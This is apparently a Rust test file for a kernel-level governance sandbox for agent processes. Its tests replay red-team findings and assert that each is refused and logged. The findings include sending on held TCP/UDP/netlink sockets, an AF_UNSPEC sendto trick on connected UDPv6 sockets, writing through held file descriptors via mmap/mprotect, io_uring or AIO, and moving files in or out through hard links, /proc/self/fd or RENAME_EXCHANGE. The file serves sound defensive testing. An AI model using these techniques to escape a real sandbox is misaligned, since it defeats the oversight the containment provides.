    let agent = TestCgroup::new("held-agent");
    let d = fx.dir.display();
    let mut k = install(&format!(
        "name: held\n\
         agents: {{ cgroup: {agent} }}\n\
         kernel: {{ allow_raw_sockets: true }}\n\
         sandbox_profiles:\n\
         \x20 jail: {{ network: none, writable: [{d}/scratch] }}\n\
         \x20 proxied: {{ network: proxy, writable: [{d}/scratch] }}\n\
         rules:\n\
         \x20 - {{ id: jail, file: {{ path: {d}/jail }}, verdict: sandbox, sandbox: {{ profile: jail }}, reason: untrusted step }}\n\
         \x20 - {{ id: proxied, file: {{ path: {d}/proxied }}, verdict: sandbox, sandbox: {{ profile: proxied }}, reason: untrusted step }}\n",
        agent = agent.rel.display(),
    ));
    for hook in ["socket_sendmsg", "file_permission", "file_open"] {
        k.require(hook);
    }
    for trigger in ["jail", "proxied"] {
        std::fs::write(fx.p(trigger), "").unwrap();
    }
    let held = ["tcp", "tcp6", "udp", "unix"];
    // Control: unsandboxed, every way sends, and the peers receive every send.
    let HeldRun {
        outcomes: control,
        leaked,
        ..
    } = held_sends(&agent.path, &fx.dir, "");
    let works: Vec<(String, String)> = control
        .iter()
        .filter(|(_, out)| *out == "ok")
        .map(|(key, _)| key.clone())
        .collect();
    for label in held.iter().chain(&["pair"]) {
        for way in [
            "send",
            "sendmsg",
            "write",
            "writev",
            "sendfile",
            "splice",
            "uring-send",
            "uring-write",
            "uring-sendmsg",
            "uring-send-async",
            "uring-splice",
            "aio-pwrite",
            "sendmmsg",
        ] {
            assert!(
                works.contains(&(label.to_string(), way.to_owned())),
                "control: {label} {way} sends unsandboxed: {control:?}"
            );
        }
    }
    assert!(
        works.contains(&("netlink".to_owned(), "send".to_owned())),
        "control: netlink send unsandboxed: {control:?}"
    );
    // A polling thread is refused to every agent (`uring_sqpoll`): it would submit a sandboxed
    // process's requests as its maker's.
    for label in held {
        assert_eq!(
            control[&(label.to_string(), "uring-send-sqpoll".to_owned())],
            "EPERM",
            "an agent's SQPOLL ring: {control:?}"
        );
    }
    for label in held {
        let sent = works.iter().filter(|(l, _)| l == label).count();
        assert_eq!(
            leaked[label], sent,
            "control: {label}'s peer got every send"
        );
    }
    for (trigger, cause) in [("jail", Cause::Default), ("proxied", Cause::NoProxy)] {
        let HeldRun {
            outcomes,
            leaked,
            ports,
        } = held_sends(&agent.path, &fx.dir, &fx.p(trigger).display().to_string());
        for label in held {
            let case = format!("a process sandboxed ({trigger}) sends on a {label} socket it held");
            println!("redteam: tried {case}");
            for key in works.iter().filter(|(l, _)| l == label) {
                assert_eq!(
                    outcomes[key], "EPERM",
                    "{case}: {} refused; {outcomes:?}",
                    key.1
                );
            }
            assert_eq!(leaked[label], 0, "{case}: nothing reached the peer");
            println!("redteam: denied {case}");
            println!("redteam: control {case}");
        }
        // Another family (the kernel is the peer): refused, as making one would be.
        let case = format!("a process sandboxed ({trigger}) sends on a netlink socket it held");
        println!("redteam: tried {case}");
        for key in works.iter().filter(|(l, _)| l == "netlink") {
            assert_eq!(
                outcomes[key], "EPERM",
                "{case}: {} refused; {outcomes:?}",
                key.1
            );
        }
        println!("redteam: denied {case}");
        println!("redteam: control {case}");
        for key in works.iter().filter(|(l, _)| l == "pair") {
            assert_eq!(
                outcomes[key], "ok",
                "control ({trigger}): the sandboxed process's socketpair stays usable ({})",
                key.1
            );
        }
        // One event at least per held socket: a denied send of a sandboxed process, by the
        // peer's port (the Unix stream: by its hook).
        let seen = std::cell::RefCell::new(Vec::new());
        let wanted = |e: &Event, label: &str| {
            if e.flags & flags::DENIED == 0 || e.flags & flags::SANDBOXED == 0 {
                return false;
            }
            match label {
                "unix" => {
                    Kind::from_u8(e.kind) == Some(Kind::Unix)
                        && e.port == governance_common::unix_hook::HELD
                }
                "netlink" => {
                    Kind::from_u8(e.kind) == Some(Kind::Socket)
                        && u32::from(e.detail) == libc::AF_NETLINK as u32
                }
                _ => Kind::from_u8(e.kind) == Some(Kind::Send) && e.port == ports[label],
            }
        };
        let _ = k.try_event_where(Duration::from_secs(20), |e| {
            let mut seen = seen.borrow_mut();
            seen.push(*e);
            held.iter()
                .chain(&["netlink"])
                .all(|l| seen.iter().any(|e| wanted(e, l)))
        });
        let seen = seen.into_inner();
        for label in held.iter().chain(&["netlink"]) {
            let ev = seen
                .iter()
                .find(|e| wanted(e, label))
                .unwrap_or_else(|| panic!("{trigger}: no refusal event for the {label} socket"));
            if *label == "tcp" {
                assert_eq!(Cause::from_u8(ev.cause), Some(cause), "{trigger}: {ev:?}");
                assert_eq!(ev.detail, governance_common::proto::TCP);
            }
        }
    }
}

/// [`a_sandboxed_process_may_not_send_around_its_profile`]'s process: holds a TCP connection
/// to the policy proxy, a connected UDP/IPv6 and UDP/IPv4 socket and a socketpair, becomes
/// sandboxed by reading `trigger` (when not empty), then tries each way and prints
/// `WAY OUTCOME` lines. `unspec`: sendto with an AF_UNSPEC name (28 bytes; the IPv4 socket's
/// with a port, which `udp_sendmsg` wants), which `udpv6_sendmsg` reads as no name at all.
const AROUND_SENDER: &str = r#"
import ctypes, errno, socket, sys
pport, p6, p4, trigger = sys.argv[1:5]
libc = ctypes.CDLL(None, use_errno=True)
def unspec(s, port):
    sa = (ctypes.c_ubyte * 28)()
    sa[2], sa[3] = port >> 8, port & 0xff
    if libc.sendto(s.fileno(), b"unspec\n", 7, 0, ctypes.byref(sa), 28) < 0:
        raise OSError(ctypes.get_errno(), "sendto")
t = socket.create_connection(("127.0.0.1", int(pport)))
u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
u6.connect(("::1", int(p6)))
u4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u4.connect(("127.0.0.1", int(p4)))
a, b = socket.socketpair()
def attempt(way, f):
    try:
        f()
        out = "ok"
    except OSError as e:
        out = errno.errorcode.get(e.errno, str(e.errno))
    print(way, out, flush=True)
if trigger:
    open(trigger).read()
attempt("proxy-send", lambda: t.send(b"proxy\n"))
attempt("proxy-connect", lambda: socket.create_connection(("127.0.0.1", int(pport))).close())
attempt("u6-send", lambda: u6.send(b"send\n"))
attempt("u6-unspec", lambda: unspec(u6, 0))
attempt("u6-named", lambda: u6.sendto(b"named\n", ("::1", int(p6))))
attempt("u4-unspec", lambda: unspec(u4, int(p4)))
attempt("pair", lambda: a.send(b"x"))
"#;

/// Red team round 5, F1 and F4: a sandboxed process sends around its profile on sockets it
/// held. F4: on a connected UDP/IPv6 socket, a datagram "named" AF_UNSPEC goes to the
/// connected peer with no `sendmsg6` program run (`udpv6_sendmsg` reads the name as none),
/// while `socket_sendmsg` passed every named UDP send: a connected socket's send is now decided
/// on its peer, whatever the message names. F1: under `network: none`, the connection it held
/// to the policy proxy (and a new connect to it) is refused: through the proxy it would reach
/// everything the proxy does. Controls: unsandboxed, every way sends and the peers receive it
/// all; under `network: proxy`, the proxy stays reachable (held and new) while the UDP sends
/// stay refused; in both sandboxes the socketpair stays usable.
#[test]
fn a_sandboxed_process_may_not_send_around_its_profile() {
    use std::io::Read as _;
    require_root();
    let fx = Fixture::new("around");
    let agent = TestCgroup::new("around-agent");
    let d = fx.dir.display();
    let mut k = install(&format!(
        "name: around\n\
         agents: {{ cgroup: {agent} }}\n\
         sandbox_profiles:\n\
         \x20 jail: {{ network: none, writable: [{d}/scratch] }}\n\
         \x20 proxied: {{ network: proxy, writable: [{d}/scratch] }}\n\
         rules:\n\
         \x20 - {{ id: jail, file: {{ path: {d}/jail }}, verdict: sandbox, sandbox: {{ profile: jail }}, reason: untrusted step }}\n\
         \x20 - {{ id: proxied, file: {{ path: {d}/proxied }}, verdict: sandbox, sandbox: {{ profile: proxied }}, reason: untrusted step }}\n",
        agent = agent.rel.display(),
    ));
    for hook in ["socket_sendmsg", "file_open", "connect6", "sendmsg6"] {
        k.require(hook);
    }
    for trigger in ["jail", "proxied"] {
        std::fs::write(fx.p(trigger), "").unwrap();
    }
    // The policy proxy: a listener here, its address in the kernel's PROXY map for this test
    // only (the programs are shared with the other tests of this process).
    let proxy = TcpListener::bind("127.0.0.1:0").unwrap();
    governance::kernel::mark_proxy_listener(std::os::fd::AsFd::as_fd(&proxy)).unwrap();
    let pport = proxy.local_addr().unwrap().port();
    struct NoProxy(Loaded);
    impl Drop for NoProxy {
        fn drop(&mut self) {
            let _ = self.0.enforcer.set_proxy(None);
        }
    }
    k.enforcer
        .set_proxy(Some((
            Ipv4Addr::LOCALHOST,
            std::net::Ipv6Addr::LOCALHOST,
            pport,
        )))
        .unwrap();
    let _reset = NoProxy(k);
    let run = |trigger: &str| {
        let u6 = std::net::UdpSocket::bind("[::1]:0").unwrap();
        let u4 = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let args = [
            pport.to_string(),
            u6.local_addr().unwrap().port().to_string(),
            u4.local_addr().unwrap().port().to_string(),
            trigger.to_owned(),
        ];
        let mut argv = vec!["-c", AROUND_SENDER];
        argv.extend(args.iter().map(String::as_str));
        let out = governance_tests::command_in(Some(&agent.path), "python3", &argv)
            .output()
            .unwrap();
        assert!(out.status.success(), "the sender failed: {out:?}");
        let outcomes: std::collections::BTreeMap<String, String> =
            String::from_utf8_lossy(&out.stdout)
                .lines()
                .filter_map(|l| l.split_once(' '))
                .map(|(w, o)| (w.to_owned(), o.to_owned()))
                .collect();
        // What reached each peer: the held connection's bytes (the sender has exited), the
        // new connection's count, and the datagrams queued.
        let mut got = std::collections::BTreeMap::new();
        proxy.set_nonblocking(true).unwrap();
        let mut conns = Vec::new();
        while let Ok((c, _)) = proxy.accept() {
            conns.push(c);
        }
        let mut bytes = Vec::new();
        for mut c in conns.iter().take(1) {
            c.set_nonblocking(false).unwrap();
            c.read_to_end(&mut bytes).unwrap();
        }
        got.insert("proxy-send", usize::from(bytes == b"proxy\n"));
        got.insert("proxy-connect", conns.len().saturating_sub(1));
        for (label, u) in [("u6", &u6), ("u4", &u4)] {
            u.set_nonblocking(true).unwrap();
            let mut n = 0;
            let mut buf = [0u8; 64];
            while u.recv(&mut buf).is_ok() {
                n += 1;
            }
            got.insert(label, n);
        }
        (outcomes, got)
    };
    let all = [
        "proxy-send",
        "proxy-connect",
        "u6-send",
        "u6-unspec",
        "u6-named",
        "u4-unspec",
        "pair",
    ];
    let (control, got) = run("");
    for way in all {
        assert_eq!(
            control[way], "ok",
            "control: {way} unsandboxed: {control:?}"
        );
    }
    assert_eq!(
        (
            got["proxy-send"],
            got["proxy-connect"],
            got["u6"],
            got["u4"]
        ),
        (1, 1, 3, 1),
        "control: the peers got every send: {got:?}"
    );
    let eperm = "EPERM".to_owned();
    for trigger in ["jail", "proxied"] {
        let case = format!(
            "F4 a process sandboxed ({trigger}) sends on a connected UDP socket by an AF_UNSPEC name"
        );
        println!("redteam: tried {case}");
        let (outcomes, got) = run(&fx.p(trigger).display().to_string());
        for way in ["u6-send", "u6-unspec", "u6-named", "u4-unspec"] {
            assert_eq!(outcomes[way], eperm, "{case}: {way}: {outcomes:?}");
        }
        assert_eq!(
            (got["u6"], got["u4"]),
            (0, 0),
            "{case}: nothing reached the peers"
        );
        println!("redteam: denied {case}");
        assert_eq!(
            outcomes["pair"], "ok",
            "control ({trigger}): the socketpair"
        );
        println!("redteam: control {case}");
        let case = format!("F1 a process sandboxed ({trigger}) sends to the policy proxy");
        println!("redteam: tried {case}");
        if trigger == "jail" {
            for way in ["proxy-send", "proxy-connect"] {
                assert_eq!(outcomes[way], eperm, "{case}: {way}: {outcomes:?}");
            }
            assert_eq!(
                (got["proxy-send"], got["proxy-connect"]),
                (0, 0),
                "{case}: nothing reached the proxy"
            );
            println!("redteam: denied {case}");
        } else {
            for way in ["proxy-send", "proxy-connect"] {
                assert_eq!(outcomes[way], "ok", "control: {case}: {way}: {outcomes:?}");
            }
            assert_eq!((got["proxy-send"], got["proxy-connect"]), (1, 1));
            println!("redteam: control {case}");
        }
    }
}

/// [`a_sandboxed_process_may_not_write_files_it_held`]'s process: opens `outside.txt` and
/// `scratch/inside.txt` read-write, becomes sandboxed by reading `trigger` (when not empty),
/// then tries each way of writing through those descriptors and prints `LABEL WAY OUTCOME`
/// lines, then the controls, then execs the helper for io_uring and AIO (`FD WAY OUTCOME`,
/// after `fd N LABEL` lines).
const HELD_WRITER: &str = r#"
import ctypes, errno, mmap, os, sys
d, trigger, helper = sys.argv[1:4]
held = {
    "outside": os.open(f"{d}/outside.txt", os.O_RDWR),
    "inside": os.open(f"{d}/scratch/inside.txt", os.O_RDWR),
}
src = os.open(f"{d}/source.txt", os.O_RDONLY)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
def mprotect(fd):
    # A shared read-only mapping made writable afterwards.
    addr = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, fd, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "mmap")
    try:
        if libc.mprotect(addr, 4096, mmap.PROT_READ | mmap.PROT_WRITE) != 0:
            raise OSError(ctypes.get_errno(), "mprotect")
    finally:
        libc.munmap(addr, 4096)
def shared_map(fd):
    mmap.mmap(fd, 1, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE).close()
ways = {
    "write": lambda fd: os.write(fd, b"x"),
    "pwrite": lambda fd: os.pwrite(fd, b"x", 0),
    "writev": lambda fd: os.writev(fd, [b"x"]),
    "fallocate": lambda fd: os.posix_fallocate(fd, 0, 64),
    "ftruncate": lambda fd: os.ftruncate(fd, 3),
    "sendfile": lambda fd: os.sendfile(fd, src, 0, 1),
    "copy_file_range": lambda fd: os.copy_file_range(src, fd, 1, 0, 0),
    "mmap-shared": shared_map,
    "mprotect-shared": mprotect,
}
def attempt(label, way, f):
    try:
        f()
        out = "ok"
    except OSError as e:
        out = errno.errorcode.get(e.errno, str(e.errno))
    print(label, way, out, flush=True)
if trigger:
    open(trigger).read()
for label, fd in held.items():
    for way, f in ways.items():
        attempt(label, way, lambda: f(fd))
# Controls: a file opened under the profile (and a child's write through it), a pipe, a memfd.
def reopened():
    fd = os.open(f"{d}/scratch/inside.txt", os.O_WRONLY | os.O_APPEND)
    os.write(fd, b"y")
    pid = os.fork()
    if pid == 0:
        try:
            os.write(fd, b"c")
            os._exit(0)
        except OSError as e:
            os._exit(e.errno)
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) != 0:
        raise OSError(os.waitstatus_to_exitcode(status), "child")
attempt("reopened", "write", reopened)
r, w = os.pipe()
attempt("pipe", "write", lambda: os.write(w, b"z"))
m = os.memfd_create("scratch")
attempt("memfd", "write", lambda: os.write(m, b"z"))
attempt("memfd", "ftruncate", lambda: os.ftruncate(m, 4096))
# truncate(2) names a path, not a descriptor: a sandboxed process truncates by descriptor only.
attempt("outside", "truncate-by-name", lambda: os.truncate(f"{d}/outside.txt", 3))
for label, fd in held.items():
    print("fd", fd, label, flush=True)
    os.set_inheritable(fd, True)
os.execv(helper, [helper, "held-sends"] + [str(fd) for fd in held.values()])
"#;

/// A process sandboxed after it opened files for writing keeps the descriptors, but not the
/// right to write through them: a sandboxed process writes a regular file only through a
/// descriptor it opened under its profile (`file_open` remembers it, `file_permission`,
/// `mmap_file` and `file_mprotect` decide; see governance-ebpf's held.rs). Variants: a file
/// outside the profile's writable directories and one inside them, each by write, pwrite,
/// writev, fallocate, ftruncate (`path_truncate`), sendfile and copy_file_range into it, a shared writable mapping, a
/// shared mapping made writable by mprotect, io_uring WRITE and SPLICE, and a Linux AIO
/// PWRITE; and truncate(2) by name. Controls: unsandboxed, every way writes; sandboxed, a
/// file it reopens in its writable directory (and its child's write through it), a pipe and a
/// memfd (written and truncated) stay writable; the held files' contents are unchanged.
#[test]
fn a_sandboxed_process_may_not_write_files_it_held() {
    use governance_common::FILE_DETAIL_HELD;
    require_root();
    let fx = Fixture::new("heldfile");
    let agent = TestCgroup::new("heldfile-agent");
    let d = fx.dir.display();
    let mut k = install(&format!(
        "name: heldfile\n\
         agents: {{ cgroup: {agent} }}\n\
         sandbox_profiles:\n\
         \x20 jail: {{ network: none, writable: [{d}/scratch] }}\n\
         rules:\n\
         \x20 - {{ id: jail, file: {{ path: {d}/jail }}, verdict: sandbox, sandbox: {{ profile: jail }}, reason: untrusted step }}\n",
        agent = agent.rel.display(),
    ));
    for hook in [
        "file_permission",
        "file_free_security",
        "mmap_file",
        "file_mprotect",
    ] {
        k.require(hook);
    }
    std::fs::write(fx.p("jail"), "").unwrap();
    std::fs::write(fx.p("source.txt"), "s").unwrap();
    std::fs::create_dir_all(fx.dir.join("scratch")).unwrap();
    let original = "original\n";
    let run = |trigger: &str| {
        std::fs::write(fx.p("outside.txt"), original).unwrap();
        std::fs::write(fx.dir.join("scratch/inside.txt"), original).unwrap();
        let out = governance_tests::command_in(
            Some(&agent.path),
            "python3",
            &["-c", HELD_WRITER, &d.to_string(), trigger, HELPER],
        )
        .output()
        .expect("python3");
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        assert!(
            out.status.success(),
            "the writer failed: {text}{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let mut fds = std::collections::BTreeMap::new();
        let mut outcomes = std::collections::BTreeMap::new();
        for line in text.lines() {
            match line.split_whitespace().collect::<Vec<_>>()[..] {
                ["fd", fd, label] => {
                    fds.insert(fd.to_owned(), label.to_owned());
                }
                [who, way, outcome] => {
                    let who = fds.get(who).cloned().unwrap_or_else(|| who.to_owned());
                    outcomes.insert((who, way.to_owned()), outcome.to_owned());
                }
                // The helper's `errno N` outcomes.
                [who, way, "errno", n] => {
                    let who = fds.get(who).cloned().unwrap_or_else(|| who.to_owned());
                    outcomes.insert((who, way.to_owned()), format!("errno {n}"));
                }
                _ => panic!("unexpected line {line:?} in {text}"),
            }
        }
        outcomes
    };
    let held = ["outside", "inside"];
    let ways = [
        "write",
        "pwrite",
        "writev",
        "fallocate",
        "ftruncate",
        "sendfile",
        "copy_file_range",
        "mmap-shared",
        "mprotect-shared",
        "uring-write",
        "uring-splice",
        "aio-pwrite",
    ];
    let controls = [
        ("reopened", "write"),
        ("pipe", "write"),
        ("memfd", "write"),
        ("memfd", "ftruncate"),
    ];
    // Control: unsandboxed, every way writes.
    let control = run("");
    for label in held {
        for way in ways {
            assert_eq!(
                control
                    .get(&(label.to_owned(), way.to_owned()))
                    .map(String::as_str),
                Some("ok"),
                "control: {label} {way} writes unsandboxed: {control:?}"
            );
        }
    }
    let by_name = ("outside".to_owned(), "truncate-by-name".to_owned());
    assert_eq!(control[&by_name], "ok", "control: truncate(2) unsandboxed");
    assert_ne!(
        std::fs::read_to_string(fx.p("outside.txt")).unwrap(),
        original,
        "control: the writes reached the file"
    );
    let jailed = run(&fx.p("jail").display().to_string());
    for label in held {
        let case =
            format!("a process sandboxed writes a file ({label} its writable directory) it held");
        println!("redteam: tried {case}");
        for way in ways {
            assert_eq!(
                jailed
                    .get(&(label.to_owned(), way.to_owned()))
                    .map(String::as_str),
                Some("EPERM"),
                "{case}: {way} refused; {jailed:?}"
            );
        }
        println!("redteam: denied {case}");
        println!("redteam: control {case}");
    }
    let case = "a process sandboxed truncates a file outside its writable directory by name";
    println!("redteam: tried {case}");
    assert_eq!(jailed[&by_name], "EPERM", "{case}: {jailed:?}");
    println!("redteam: denied {case}");
    println!("redteam: control {case}");
    assert_eq!(
        std::fs::read_to_string(fx.p("outside.txt")).unwrap(),
        original,
        "nothing reached the file outside"
    );
    for (who, way) in controls {
        assert_eq!(
            jailed
                .get(&(who.to_owned(), way.to_owned()))
                .map(String::as_str),
            Some("ok"),
            "control: a sandboxed {who} {way} stays usable; {jailed:?}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(fx.dir.join("scratch/inside.txt")).unwrap(),
        format!("{original}yc"),
        "only the reopened file's writes (the process's and its child's) reached the file inside"
    );
    let ev = k
        .try_event_where(Duration::from_secs(20), |e| {
            Kind::from_u8(e.kind) == Some(Kind::File)
                && e.detail & FILE_DETAIL_HELD != 0
                && e.flags & flags::DENIED != 0
                && e.flags & flags::SANDBOXED != 0
        })
        .expect("a refusal event for a held file");
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{ev:?}");
    assert_eq!(ev.detail & 2, 2, "a write: {ev:?}");
}

/// A new name (`Attempt::NewName`) refused in `fx`'s agent with EPERM and a `Kind::Link`
/// record for `op` (`cause`, no rule number: the default, or the sandbox profile's built-in),
/// leaving `unchanged` as it was and `absent` absent.
#[allow(clippy::too_many_arguments)]
fn denied_new_name(
    k: &mut Loaded,
    fx: &Fixture,
    case: &str,
    attempt: &Attempt,
    op: u8,
    cause: Cause,
    sandboxed: bool,
    absent: &Path,
) {
    println!("redteam: tried {case}");
    let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
    assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}: in the agent");
    let ev = k.event_where(|e| {
        e.tgid == pid && e.flags & flags::DENIED != 0 && Kind::from_u8(e.kind) == Some(Kind::Link)
    });
    assert_eq!(ev.detail, op, "{case}: link or rename");
    assert_eq!(Cause::from_u8(ev.cause), Some(cause), "{case}: cause");
    assert_eq!(
        governance_common::id_number(ev.rule_id),
        0,
        "{case}: no rule number"
    );
    assert_eq!(
        ev.flags & flags::SANDBOXED != 0,
        sandboxed,
        "{case}: sandboxed flag"
    );
    assert_eq!(ev.agent_cgroup, fx.agent.id(), "{case}: event agent");
    assert!(!absent.exists(), "{case}: {} made", absent.display());
    println!("redteam: denied {case}");
}

/// A new name that must pass in `fx`'s agent.
fn allowed_new_name(fx: &Fixture, case: &str, attempt: &Attempt) {
    let (_, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
    assert_eq!(outcome, Outcome::Exited(0), "{case}: allowed in the agent");
}

fn new_name(trigger: Option<&Path>, op: u8, from: &Path, to: &Path) -> Attempt {
    Attempt::NewName {
        trigger: trigger.map(cstr),
        op,
        from: cstr(from),
        to: cstr(to),
    }
}

/// Red team round 4, F2: a sandbox profile's writable directories are a path rule (writes
/// refused below `/`, allowed below each writable directory), which the kernel decides by the
/// path an open names. A new name may not carry an object from outside the writable
/// directories into them (a hard link, a rename of a directory above it, linkat through
/// /proc/self/fd, RENAME_EXCHANGE), nor create a name outside them (a rename out): each
/// refused with the profile's built-in rule. Nor may it make a symlink, a directory or a FIFO
/// outside them, or remove a directory there (round 5). Inside them, all of these work; the
/// same operations by the agent when it is not sandboxed work.
#[test]
fn a_sandboxed_process_may_not_give_names_outside_its_writable_directories() {
    require_root();
    let fx = Fixture::new("sbnames");
    let d = fx.dir.display();
    // There at the load: the agent's rule on it is held by its identity.
    std::fs::create_dir_all(fx.p("scratch/hooks")).unwrap();
    let mut k = install(&format!(
        "name: sbnames\n\
         agents: {{ cgroup: {agent} }}\n\
         sandbox_profiles:\n\
         \x20 jail: {{ network: none, writable: [{d}/scratch] }}\n\
         rules:\n\
         \x20 - {{ id: jail, file: {{ path: {d}/jail }}, verdict: sandbox, sandbox: {{ profile: jail }}, reason: untrusted step }}\n\
         \x20 - {{ id: hooks, file: {{ prefix: {d}/scratch/hooks, access: [write, create] }}, verdict: block, reason: hooks run as the developer }}\n",
        agent = fx.agent.rel.display(),
    ));
    for hook in [
        "inode_link",
        "inode_rename",
        "inode_symlink",
        "inode_mkdir",
        "path_mknod",
        "inode_rmdir",
        "path_chmod",
        "path_chown",
    ] {
        k.require(hook);
    }
    std::fs::write(fx.p("jail"), "").unwrap();
    std::fs::create_dir_all(fx.p("empty")).unwrap();
    std::fs::write(fx.p("victim.txt"), "original\n").unwrap();
    std::fs::create_dir_all(fx.p("workspace")).unwrap();
    std::fs::write(fx.p("workspace/main.py"), "print(1)\n").unwrap();
    std::fs::create_dir_all(fx.p("scratch/sub")).unwrap();
    std::fs::write(fx.p("scratch/dropper.sh"), "#!/bin/sh\n").unwrap();
    std::fs::write(fx.p("scratch/a.txt"), "a").unwrap();
    let jail = fx.p("jail");
    let sb = Some(jail.as_path());
    let (link, rename, exchange, fd_link) = (0, 1, 2, 3);
    let (symlink, mkdir, mkfifo, rmdir, chmod, chown) = (4, 5, 6, 7, 8, 9);
    let (link_op, rename_op) = (
        governance_common::LINK_OP_LINK,
        governance_common::LINK_OP_RENAME,
    );
    for (case, op, from, to, record, absent) in [
        (
            "R5 a sandboxed process makes a symlink outside its writable directory",
            symlink,
            "scratch/a.txt",
            "link-out",
            governance_common::LINK_OP_SYMLINK,
            "link-out",
        ),
        (
            "R5 a sandboxed process makes a directory outside its writable directory",
            mkdir,
            "scratch",
            "dir-out",
            governance_common::LINK_OP_MKDIR,
            "dir-out",
        ),
        (
            "R5 a sandboxed process makes a FIFO outside its writable directory",
            mkfifo,
            "scratch",
            "fifo-out",
            governance_common::LINK_OP_MKNOD,
            "fifo-out",
        ),
        (
            "R5 a sandboxed process removes a directory outside its writable directory",
            rmdir,
            "empty",
            "scratch",
            governance_common::LINK_OP_RMDIR,
            "scratch/nothing",
        ),
        (
            "R5 a sandboxed process chmods a file outside its writable directory",
            chmod,
            "victim.txt",
            "scratch",
            governance_common::LINK_OP_CHMOD,
            "scratch/nothing",
        ),
        (
            "R5 a sandboxed process chowns a file outside its writable directory",
            chown,
            "victim.txt",
            "scratch",
            governance_common::LINK_OP_CHOWN,
            "scratch/nothing",
        ),
        (
            "F2 a sandboxed process hard-links a file from outside into its writable directory",
            link,
            "victim.txt",
            "scratch/v",
            link_op,
            "scratch/v",
        ),
        (
            "F2 a sandboxed process links a file from outside in through /proc/self/fd",
            fd_link,
            "victim.txt",
            "scratch/v2",
            link_op,
            "scratch/v2",
        ),
        (
            "F2 a sandboxed process renames a directory from outside into its writable directory",
            rename,
            "workspace",
            "scratch/ws",
            rename_op,
            "scratch/ws",
        ),
        (
            "F2 a sandboxed process renames a file out of its writable directory",
            rename,
            "scratch/dropper.sh",
            "dropped.sh",
            rename_op,
            "dropped.sh",
        ),
        (
            "F2 a sandboxed process hard-links a file outside to a new name outside",
            link,
            "victim.txt",
            "victim-2.txt",
            link_op,
            "victim-2.txt",
        ),
        (
            "F2 a sandboxed process exchanges a file of its writable directory with one outside",
            exchange,
            "scratch/a.txt",
            "victim.txt",
            rename_op,
            "scratch/nothing",
        ),
    ] {
        denied_new_name(
            &mut k,
            &fx,
            case,
            &new_name(sb, op, &fx.p(from), &fx.p(to)),
            record,
            Cause::Rule,
            true,
            &fx.p(absent),
        );
        assert!(fx.p("empty").is_dir(), "{case}: the directory is gone");
        // The control: the agent, not sandboxed, may (and each goes back).
        allowed_new_name(&fx, case, &new_name(None, op, &fx.p(from), &fx.p(to)));
        match op {
            0 | 3 | 4 | 6 => std::fs::remove_file(fx.p(to)).unwrap(),
            5 => std::fs::remove_dir(fx.p(to)).unwrap(),
            7 => std::fs::create_dir(fx.p(from)).unwrap(),
            8 | 9 => {}
            _ => allowed_new_name(&fx, case, &new_name(None, op, &fx.p(to), &fx.p(from))),
        }
        println!("redteam: control {case}");
    }
    assert_eq!(
        std::fs::read_to_string(fx.p("victim.txt")).unwrap(),
        "original\n"
    );
    assert_eq!(std::fs::read_to_string(fx.p("scratch/a.txt")).unwrap(), "a");
    assert!(fx.p("workspace/main.py").exists() && fx.p("scratch/dropper.sh").exists());
    // Inside the writable directory the sandboxed process names what it likes.
    for (case, op, from, to) in [
        (
            "link inside scratch",
            link,
            "scratch/a.txt",
            "scratch/sub/b",
        ),
        (
            "rename inside scratch",
            rename,
            "scratch/sub/b",
            "scratch/c",
        ),
        (
            "rename a directory inside scratch",
            rename,
            "scratch/sub",
            "scratch/sub2",
        ),
        (
            "exchange inside scratch",
            exchange,
            "scratch/c",
            "scratch/dropper.sh",
        ),
        ("symlink inside scratch", symlink, "a.txt", "scratch/l"),
        ("mkdir inside scratch", mkdir, "scratch", "scratch/d"),
        ("mkfifo inside scratch", mkfifo, "scratch", "scratch/f"),
        ("rmdir inside scratch", rmdir, "scratch/d", "scratch"),
        ("chmod inside scratch", chmod, "scratch/a.txt", "scratch"),
        ("chown inside scratch", chown, "scratch/a.txt", "scratch"),
    ] {
        allowed_new_name(&fx, case, &new_name(sb, op, &fx.p(from), &fx.p(to)));
    }
    assert_eq!(
        std::fs::read_to_string(fx.p("scratch/dropper.sh")).unwrap(),
        "a"
    );
    // Red team round 31: inside its writable directory the agent's own rules still hold for
    // the sandboxed process (its block on `scratch/hooks`): writable directories restrict,
    // never grant. The profile's grant used to outrank the agent's rule there.
    for (case, op, from, to) in [
        (
            "R31 a sandboxed process makes a FIFO where its agent may not create",
            mkfifo,
            "scratch/hooks",
            "scratch/hooks/pre-commit",
        ),
        (
            "R31 a sandboxed process links a file in where its agent may not create",
            link,
            "scratch/a.txt",
            "scratch/hooks/post-checkout",
        ),
    ] {
        println!("redteam: tried {case}");
        let (pid, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &new_name(sb, op, &fx.p(from), &fx.p(to)),
        );
        assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
        let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
        assert_eq!(ev.rule_id, k.rule(2), "{case}: the agent's rule");
        assert_ne!(ev.flags & flags::SANDBOXED, 0, "{case}: sandboxed flag");
        assert!(!fx.p(to).exists(), "{case}: made");
        println!("redteam: denied {case}");
        // Control: beside it in the writable directory, the same passes.
        let beside = fx.p(to).with_extension("beside");
        let beside = fx.p("scratch").join(beside.file_name().unwrap());
        allowed_new_name(&fx, case, &new_name(sb, op, &fx.p(from), &beside));
        println!("redteam: control {case}");
    }
